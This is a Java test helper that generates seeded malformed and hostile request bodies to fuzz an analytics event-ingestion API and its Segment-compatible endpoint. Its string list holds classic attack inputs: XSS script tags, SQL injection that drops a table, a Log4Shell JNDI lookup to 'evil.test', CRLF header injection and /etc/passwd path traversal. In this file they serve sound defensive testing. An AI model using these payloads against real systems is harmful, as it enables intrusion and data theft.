package dev.touchstone.touchpoint.service;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Bodies that nobody with good intentions sends, the same for the same seed. */
final class HostilePayloads {
    /** In every hostile address, so that a log can be searched for it. */
    static final String VICTIM = "victim@example.com";

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\\u0000",
            "\\ud800",
            "a\\r\\nSet-Cookie: stolen=1",
            "<script>alert(document.cookie)</script>",
            "\\\"><img src=x onerror=alert(1)>",
            "'; DROP TABLE web_event; --",
            "') ON CONFLICT DO NOTHING; --",
            "${jndi:ldap://evil.test/a}",
            "{{7*7}}",
            "../../../../etc/passwd",
            "\\u202e\\u0007\\u001b[31m",
            "👩‍👩‍👧‍👦",
            "https://acme.com/?mailId=" + VICTIM,
            "https://user:password@acme.com/",
            "https://acme.com/%00%ff%c0%ae",
            "javascript:alert(1)",
            "https://acme.com/?a=" + "b".repeat(3_000),
            VICTIM,
            "x".repeat(300) + VICTIM,
            "page",
            "-1",
            "1e999");
    private static final List<String> VALUES = List.of(
            "null", "true", "-1", "1e400", "9".repeat(60), "[]", "{}", "[[[]]]", "\"\"", "0.1", "{\"type\":\"page\"}");
    private static final List<String> FIELDS = List.of(
            "id", "seq", "time", "type", "url", "referrer", "email", "form", "alias", "visitorId", "sentAt", "consent");

    private static final List<String> SEGMENT_TIMES = List.of(
            "\"" + java.time.Instant.now() + "\"",
            "\"" + java.time.Instant.now().minusSeconds(300_000_000) + "\"",
            "\"" + java.time.Instant.now().plusSeconds(300_000_000) + "\"",
            "\"+999999999-12-31T23:59:59Z\"",
            "\"-999999999-01-01T00:00:00Z\"",
            "\"+999999999-12-31T23:59:59-18:00\"",
            "\"2026-02-30T00:00:00Z\"",
            "\"0000-00-00T00:00:00Z\"",
            "\"\"",
            "0",
            "null");
    private static final List<String> SEGMENT_FIELDS = List.of(
            "messageId", "anonymousId", "userId", "type", "event", "timestamp", "sentAt", "context", "properties");
    private static final List<String> ADDRESSES =
            List.of("", "999.1.1.1", "evil.test", "::1%eth0", ".:1", "1.2.3.4", "2001:db8::1");

    private final Random random;
    private final String writeKey;
    private final long now;

    HostilePayloads(long seed, String writeKey, long now) {
        this.random = new Random(seed);
        this.writeKey = writeKey;
        this.now = now;
    }

    /** A body; {@code name} makes the ids of its events different from all others. */
    byte[] next(String name) {
        return switch (random.nextInt(8)) {
            case 0, 1, 2 -> bytes(batch(name, true));
            case 3 -> damaged(bytes(batch(name, false)));
            case 4 -> deep();
            case 5 -> noise(random.nextInt(2_000));
            case 6 -> bytes(batch(name, false));
            default -> random.nextInt(20) == 0 ? bytes(huge(name)) : damaged(bytes(batch(name, true)));
        };
    }

    /** A body of the Segment API. */
    byte[] nextSegment(String name) {
        return switch (random.nextInt(6)) {
            case 0 -> damaged(bytes(segmentBatch(name)));
            case 1 -> random.nextInt(10) == 0 ? deep() : noise(random.nextInt(2_000));
            default -> bytes(segmentBatch(name));
        };
    }

    private String segmentBatch(String name) {
        List<String> messages = new ArrayList<>();
        int count = 1 + random.nextInt(4);
        for (int i = 0; i < count; i++) {
            messages.add(segmentMessage(name + "-" + i));
        }
        return "{\"batch\":[" + String.join(",", messages) + "],\"sentAt\":" + anyOf(SEGMENT_TIMES) + "}";
    }

    private String segmentMessage(String id) {
        List<String> fields = new ArrayList<>(List.of(
                "\"messageId\":\"" + id + "\"",
                "\"anonymousId\":\"v\"",
                "\"type\":\"" + List.of("page", "identify", "track").get(random.nextInt(3)) + "\"",
                "\"event\":\"Form Submitted\"",
                "\"timestamp\":" + anyOf(SEGMENT_TIMES),
                "\"traits\":{\"email\":\"" + text() + "\"}",
                "\"context\":{\"ip\":\"" + anyOf(ADDRESSES) + "\",\"page\":{\"url\":\"" + text() + "\"}}",
                "\"properties\":{\"url\":\"https://acme.com/\",\"email\":\"a@x.com\",\"formName\":" + value() + "}"));
        if (random.nextBoolean()) {
            String field = anyOf(SEGMENT_FIELDS);
            fields.removeIf(known -> known.startsWith("\"" + field + "\""));
            fields.add("\"" + field + "\":" + (random.nextBoolean() ? "\"" + text() + "\"" : value()));
        }
        return "{" + String.join(",", fields) + "}";
    }

    private String anyOf(List<String> texts) {
        return texts.get(random.nextInt(texts.size()));
    }

    /** Bytes that are no text at all. */
    byte[] noise(int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    /** Some bytes changed, taken out or put in. */
    byte[] damaged(byte[] body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int damage = 1 + random.nextInt(3);
        for (byte b : body) {
            if (damage > 0 && random.nextInt(body.length) < 3) {
                damage--;
                switch (random.nextInt(3)) {
                    case 0 -> out.write(random.nextInt(256));
                    case 1 -> out.writeBytes(noise(random.nextInt(4)));
                    default -> out.writeBytes(new byte[] {b, b});
                }
            } else {
                out.write(b);
            }
        }
        byte[] bytes = out.toByteArray();
        return random.nextInt(4) == 0 ? java.util.Arrays.copyOf(bytes, random.nextInt(bytes.length + 1)) : bytes;
    }

    private String batch(String name, boolean hostile) {
        List<String> events = new ArrayList<>();
        int count = 1 + random.nextInt(4);
        for (int i = 0; i < count; i++) {
            // With a check value, so that no damage makes the id of another event of it.
            String id = name + "-" + i;
            events.add(event(id + "-" + Integer.toHexString(id.hashCode()), hostile));
        }
        String more = hostile && random.nextInt(3) == 0 ? ",\"" + text() + "\":" + value() : "";
        return "{\"writeKey\":\"" + writeKey + "\",\"sentAt\":" + now + ",\"visitorId\":\"v-" + random.nextInt(50)
                + "\",\"events\":[" + String.join(",", events) + "]" + more + "}";
    }

    private String event(String id, boolean hostile) {
        List<String> fields = new ArrayList<>(List.of(
                "\"id\":\"" + id + "\"",
                "\"time\":" + (now - random.nextInt(100_000)),
                "\"type\":\"page\"",
                "\"url\":\"https://acme.com/" + random.nextInt(9) + "\""));
        if (hostile) {
            String field = FIELDS.get(random.nextInt(FIELDS.size()));
            fields.removeIf(known -> known.startsWith("\"" + field + "\"") && !field.equals("id"));
            if (!field.equals("id")) {
                fields.add("\"" + field + "\":" + (random.nextBoolean() ? "\"" + text() + "\"" : value()));
            }
        }
        return "{" + String.join(",", fields) + "}";
    }

    private String huge(String name) {
        return batch(name, false).replace("https://acme.com/", "https://acme.com/" + "u".repeat(1_000_000));
    }

    private byte[] deep() {
        int depth = 100 + random.nextInt(20_000);
        String open = random.nextBoolean() ? "[" : "{\"a\":";
        return bytes("{\"writeKey\":\"" + writeKey + "\",\"events\":" + open.repeat(depth));
    }

    private String text() {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    private String value() {
        return VALUES.get(random.nextInt(VALUES.size()));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
